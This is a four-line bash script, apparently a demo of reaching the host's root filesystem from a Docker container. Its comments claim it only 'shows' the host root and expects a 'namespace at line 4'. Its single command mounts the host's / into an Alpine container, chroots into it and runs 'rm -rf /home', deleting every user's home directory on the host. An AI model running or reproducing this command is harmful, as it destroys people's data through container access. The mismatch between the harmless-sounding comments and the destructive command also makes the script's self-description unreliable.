#!/bin/bash
# shows: the host's root in a container
# expect: namespace at line 4
docker run --rm -v /:/mnt alpine chroot /mnt rm -rf /home
